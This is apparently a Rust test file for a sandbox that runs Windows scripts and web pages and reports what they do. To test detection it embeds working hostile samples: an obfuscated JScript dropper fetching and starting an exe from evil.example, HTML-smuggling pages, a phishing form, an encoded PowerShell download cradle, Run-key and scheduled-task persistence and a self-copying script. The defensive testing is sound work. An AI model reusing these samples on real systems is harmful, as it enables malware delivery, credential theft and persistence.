//! Scripts that are run: what they would have done stands in the timeline, and what they make is taken apart.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use data_encoding::BASE64;
use postern_model::sandbox::{Action, FindingName};
use support::documents::{archive, program};
use support::{done, has, names, run, show};

/// As they come by mail: names put together from codes, an address from pieces, a wait, and everything in a text that becomes script.
const DROPPER: &str = r#"
var _0x = ["\x57\x53\x63\x72\x69\x70\x74\x2e\x53\x68\x65\x6c\x6c", "MSXML2", "XMLHTTP", "ADODB", "Stream"];
function c() { var s = ""; for (var i = 0; i < arguments.length; i++) s += String.fromCharCode(arguments[i] ^ 7); return s; }
WScript.Sleep(90000);
var code = "var sh = new ActiveXObject(_0x[0]);" +
  "var url = c(111,115,115,119,61,40,40) + ['evil', 'example'].join('.') + '/' + 'a' + unescape('%2e') + 'exe';" +
  "var x = new ActiveXObject(_0x[1] + '.' + _0x[2]); x.open('GET', url, false); x.Send();" +
  "if (x.Status == 200 && x.responseBody.length > 1000) {" +
  "  var path = sh.ExpandEnvironmentStrings('%TEMP%') + '\\\\update.exe';" +
  "  var st = WScript.CreateObject(_0x[3] + '.' + _0x[4]); st.Type = 1; st.Open(); st.Write(x.ResponseBody); st.SaveToFile(path, 2); st.Close();" +
  "  sh.Run('cmd /c start \"\" \"' + path + '\"', 0, false); }";
eval(code);
"#;

#[test]
fn a_dropper_shows_what_it_loads_writes_and_starts() {
    let report = run("invoice.js", DROPPER.as_bytes());
    let steps: Vec<_> = done(&report).into_iter().filter(|(action, _)| !matches!(*action, "layer" | "object" | "call")).collect();
    let path = "C:\\Users\\erika\\AppData\\Local\\Temp\\update.exe";
    let command = format!("cmd /c start \"\" \"{path}\"");
    assert_eq!(
        steps,
        [("wait", "90000 ms"), ("load", "GET http://evil.example/a.exe"), ("write", path), ("start", command.as_str())],
        "{}",
        show(&report)
    );
    assert_eq!(report.contacted(), ["evil.example"]);
    for name in ["SCRIPT", "SCRIPT_LOADS", "SCRIPT_WRITES", "SCRIPT_STARTS", "SCRIPT_DROPPER", "SCRIPT_LAYERS", "SCRIPT_WAITS"] {
        assert!(has(&report, name), "{name}: {}", show(&report));
    }
    assert!(!has(&report, "PROGRAM"), "what was loaded is ours");
    assert!(report.timeline.iter().all(|e| e.part == 0) && report.is_sound());
}

#[test]
fn what_it_carries_is_dropped_and_taken_apart() {
    let zip = archive(&[("run.exe", &program())], None);
    let script = format!(
        "var d = new ActiveXObject('Microsoft.XMLDOM'); var e = d.createElement('b'); e.dataType = 'bin.base64'; e.text = '{}';\n\
         var s = new ActiveXObject('ADODB.Stream'); s.type = 1; s.open(); s.write(e.nodeTypedValue); s.saveToFile('C:\\\\Users\\\\Public\\\\a.zip');\n\
         var f = new ActiveXObject('Scripting.FileSystemObject').CreateTextFile('c:\\\\x\\\\next.js', true); f.WriteLine('WScript.Echo(\"second\")'); f.Close();\n\
         new ActiveXObject('Shell.Application').ShellExecute('wscript.exe', 'c:\\\\x\\\\next.js', '', 'runas', 0);",
        BASE64.encode(&zip)
    );
    let report = run("a.js", script.as_bytes());
    let tree: Vec<_> = report.parts.iter().map(|p| (p.inside, p.name.as_str())).collect();
    assert_eq!(tree, [(None, "a.js"), (Some(0), "a.zip"), (Some(0), "next.js"), (Some(1), "run.exe")], "{}", show(&report));
    assert!(has(&report, "PROGRAM") && has(&report, "SCRIPT_DROPPER"), "{}", show(&report));
    assert!(done(&report).contains(&("show", "second")), "what it writes is run in turn: {}", show(&report));
}

#[test]
fn every_way_that_scripts_come_in() {
    let body = "new ActiveXObject('WScript.Shell').Run('calc.exe')";
    let encoded = "#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@";
    let wide: Vec<u8> = [0xff, 0xfe].into_iter().chain(body.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    for (name, content) in [
        ("a.js", body.as_bytes().to_vec()),
        ("a.jse", body.as_bytes().to_vec()),
        ("a.js", wide),
        ("a.js", format!("/*@cc_on\n{body}\n@*/").into_bytes()),
        ("a.wsf", format!("<package><job id='x'><script language='JScript'><![CDATA[{body}]]></script></job></package>").into_bytes()),
        ("a.hta", format!("<html><head><hta:application windowstate=minimize></head><script>{body};window.close()</script></html>").into_bytes()),
        ("a.hta", format!("<html><body onload=\"{}\"></body></html>", body.replace('"', "&quot;")).into_bytes()),
        ("a.js", format!("setTimeout(function () {{ {body} }}, 60000)").into_bytes()),
        ("a.js", format!("new Function({})()", serde_json::to_string(body).unwrap()).into_bytes()),
        ("a.js", b"var w = GetObject('winmgmts:root\\\\cimv2'); w.Get('Win32_Process').Create('calc.exe')".to_vec()),
        ("a.js", b"var s = new ActiveXObject('ScriptControl'); s.Language='JScript'; s.AddCode(\"new ActiveXObject('WScript.Shell').Exec('calc.exe')\")".to_vec()),
    ] {
        let report = run(name, &content);
        assert!(done(&report).contains(&("start", "calc.exe")), "{name} {}: {}", String::from_utf8_lossy(&content), show(&report));
        assert!(has(&report, "SCRIPT_STARTS"), "{name}");
    }
    let report = run("a.jse", encoded.as_bytes());
    assert!(done(&report).contains(&("decoded", "MsgBox \"Hello\"")), "{}", show(&report));
}

#[test]
fn a_page_that_makes_a_file_hands_it_over() {
    let zip = BASE64.encode(&archive(&[("invoice.exe", &program())], None));
    let bytes = "var s = atob(document.getElementById('d').innerText); var b = new Uint8Array(s.length); for (var i = 0; i < s.length; i++) b[i] = s.charCodeAt(i);";
    for (how, act) in [
        (
            "a link that is clicked",
            "var a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([b], {type: 'application/zip'})); a.download = 'invoice.zip'; document.body.appendChild(a); a.click();",
        ),
        ("Internet Explorer's way", "window.navigator.msSaveOrOpenBlob(new Blob([b.buffer]), 'invoice.zip');"),
        (
            "a link to data",
            "var a = document.createElement('a'); a.setAttribute('href', 'data:application/zip;base64,' + btoa(s)); a.setAttribute('download', 'invoice.zip'); a.dispatchEvent(new MouseEvent('click'));",
        ),
        (
            "on a click of the reader",
            "document.getElementById('go').addEventListener('click', function () { navigator.msSaveBlob(new File([b], 'x'), 'invoice.zip') });",
        ),
        (
            "later",
            "setTimeout(() => fetch('data:application/zip;base64,' + btoa(s)).then(r => r.blob()).then(x => { const a = document.createElement('a'); a.href = URL.createObjectURL(x); a.download = 'invoice.zip'; a.click() }), 3000);",
        ),
    ] {
        let page = format!(
            "<html><body><div id=d style='display:none'>{zip}</div><button id=go>open</button><script>{bytes}{act}</script></body></html>"
        );
        let report = run("voice.html", page.as_bytes());
        assert!(done(&report).contains(&("hand-over", "invoice.zip")), "{how}: {}", show(&report));
        assert!(has(&report, "HTML_HAND_OVER") && has(&report, "PROGRAM"), "{how}: {}", show(&report));
        assert!(report.parts.iter().any(|p| p.name == "invoice.zip") && report.parts.iter().any(|p| p.name == "invoice.exe"), "{how}");
    }
}

#[test]
fn what_a_page_writes_and_where_it_goes() {
    let form = "<form action='https://evil.example/take.php'><input type=password name=p></form>";
    let written = format!(
        "<html><script>document.write(unescape('{}'))</script></html>",
        form.replace('<', "%3C").replace('>', "%3E").replace('\'', "%27")
    );
    let report = run("login.html", written.as_bytes());
    assert!(has(&report, "HTML_PASSWORD_FORM"), "{}", show(&report));
    for code in [
        "location.href = u",
        "window.location = u",
        "location.replace(u)",
        "document.location = u",
        "window.open(u)",
        "top.location.assign(u)",
    ] {
        let page = format!("<html><script>var u = 'https' + '://evil' + '.example/' + location.hash; {code}</script></html>");
        let report = run("note.html", page.as_bytes());
        assert!(has(&report, "HTML_REDIRECT") && report.contacted() == ["evil.example"], "{code}: {}", show(&report));
    }
    let svg = "<svg xmlns='http://www.w3.org/2000/svg'><script>window.location.href=String.fromCharCode(104,116,116,112,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101,47)</script></svg>";
    assert_eq!(run("image.svg", svg.as_bytes()).contacted(), ["evil.example"]);
}

#[test]
fn a_command_for_powershell_is_read() {
    let inner = "IEX (New-Object Net.WebClient).DownloadString('https://evil.example/p.ps1')";
    let encoded = BASE64.encode(&inner.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>());
    let script = format!("new ActiveXObject('WScript.Shell').Run('powershell -nop -w hidden -enc {encoded}', 0)");
    let report = run("a.js", script.as_bytes());
    assert_eq!(report.contacted(), ["evil.example"], "{}", show(&report));
    assert!(has(&report, "COMMAND_ENCODED") && has(&report, "COMMAND_LOADS"), "{}", show(&report));
    for name in ["run.bat", "run.ps1", "run.vbs"] {
        let text = format!("CreateObject(\"WScript.Shell\").Run \"powershell -e {encoded}\"");
        let report = run(name, text.as_bytes());
        assert!(
            has(&report, "COMMAND_ENCODED") && has(&report, "COMMAND_LOADS") && report.contacted() == ["evil.example"],
            "{name}: {}",
            show(&report)
        );
    }
}

#[test]
fn it_arranges_to_be_started_again() {
    for code in [
        "new ActiveXObject('WScript.Shell').RegWrite('HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\x', 'wscript a.js')",
        "new ActiveXObject('WScript.Shell').Run('schtasks /create /tn x /tr a.exe /sc minute')",
        "var s = new ActiveXObject('WScript.Shell'); new ActiveXObject('Scripting.FileSystemObject').CopyFile(WScript.ScriptFullName, s.SpecialFolders('Startup') + '\\\\')",
        "var t = new ActiveXObject('Schedule.Service'); t.Connect(); t.GetFolder('\\\\').RegisterTaskDefinition('x', t.NewTask(0), 6, '', '', 3)",
    ] {
        let report = run("a.js", code.as_bytes());
        assert!(has(&report, "SCRIPT_PERSISTS"), "{code}: {}", show(&report));
    }
}

/// Each of these ends soon, with what was seen before.
#[test]
fn scripts_without_an_end_are_ended() {
    let first = "new ActiveXObject('WScript.Shell').Run('calc.exe');";
    for (what, code) in [
        ("a loop", "while (true) {}"),
        ("a loop that catches", "for (;;) { try { for (;;) { WScript.Echo(1) } } catch (e) {} }"),
        ("a flood", "for (var i = 0; ; i++) { WScript.Echo('x' + i) }"),
        (
            "files without end",
            "var f = new ActiveXObject('Scripting.FileSystemObject'); for (var i = 0; ; i++) f.CreateTextFile('c:\\\\' + i + '.txt').Write('x' + i)",
        ),
        ("layers without end", "var n = 0; function f() { eval('n++; f(' + n + ')') } f()"),
        ("calls without end", "function f() { f() } f()"),
        ("the clock", "var t = new Date().getTime(); while (new Date().getTime() - t < 120000) {}"),
        ("a timer", "setInterval(function () { WScript.Sleep(1000) }, 10)"),
        ("promises", "function f() { return Promise.resolve().then(f) } f()"),
    ] {
        let began = std::time::Instant::now();
        let report = run("a.js", format!("{first}{code}").as_bytes());
        assert!(has(&report, "SCRIPT_STARTS"), "{what}: {}", show(&report));
        assert!(report.is_sound(), "{what}");
        println!("{what}: {:?}, {} events, {:?}", began.elapsed(), report.timeline.len(), report.timeline.last());
    }
}

#[test]
fn what_is_honest_or_broken_says_little() {
    let library = "(function (root) { 'use strict'; var g = typeof globalThis === 'object' ? globalThis : Function('return this')(); g.total = [1, 2, 3].map(function (x) { return x * 2 }).reduce(function (a, b) { return a + b }) })(this);";
    assert_eq!(names(&run("library.js", library.as_bytes())), ["SCRIPT"]);
    let module = "import fs from 'fs'; export default function () { return fs }";
    assert_eq!(names(&run("module.js", module.as_bytes())), ["SCRIPT"]);
    let page = "<html><body><h1>News</h1><script>document.querySelectorAll('h1').forEach(function (h) { h.style.color = 'red' }); window.addEventListener('load', () => console.log('ready'))</script></body></html>";
    let report = run("news.html", page.as_bytes());
    assert_eq!(names(&report), [] as [&str; 0], "{}", show(&report));
    for broken in ["", "\0", "var", "}{", "/*", "'", "(".repeat(100_000).as_str(), "#@~^", "\u{feff}", "0x", "!!!!".repeat(50_000).as_str()]
    {
        let report = run("broken.js", broken.as_bytes());
        assert!(report.is_sound() && !has(&report, "SCRIPT_STARTS"), "{broken:.20}");
    }
}

#[test]
fn the_same_script_is_run_once_and_copies_of_itself_end() {
    let script = "var f = new ActiveXObject('Scripting.FileSystemObject'); var me = f.OpenTextFile(WScript.ScriptFullName).ReadAll(); f.CreateTextFile('c:\\\\copy.js').Write(me); f.CreateTextFile('c:\\\\other.js').Write(me + ' ')";
    let report = run("worm.js", script.as_bytes());
    assert!(report.timeline.iter().filter(|e| e.action == Action::Begin).count() <= 16, "{}", show(&report));
    assert!(report.findings.iter().any(|f| f.name == FindingName::ScriptWrites));
}
